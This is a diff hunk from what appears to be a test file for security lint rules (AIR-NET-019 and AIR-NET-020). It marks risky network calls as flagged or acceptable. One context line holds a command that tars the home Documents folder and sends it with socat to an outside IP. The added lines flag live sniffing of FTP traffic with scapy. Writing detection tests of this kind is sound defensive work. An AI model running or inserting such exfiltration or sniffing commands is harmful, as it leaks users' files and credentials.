@@ -177,3 +177,15 @@ os.system("tar cz ~/Documents | socat - TCP:198.51.100.9:443")
 subprocess.run(["nc", "-z", "localhost", "5432"])
 # ok: AIR-NET-019
 os.system("grep -c error app.log | sort -n")
+
+from scapy.all import rdpcap, sniff  # noqa: E402
+
+
+def show(packet):
+    print(packet.summary())
+
+
+# ruleid: AIR-NET-020
+sniff(filter="tcp port 21", prn=show, store=False)
+# ok: AIR-NET-020
+offline = rdpcap("capture.pcap")
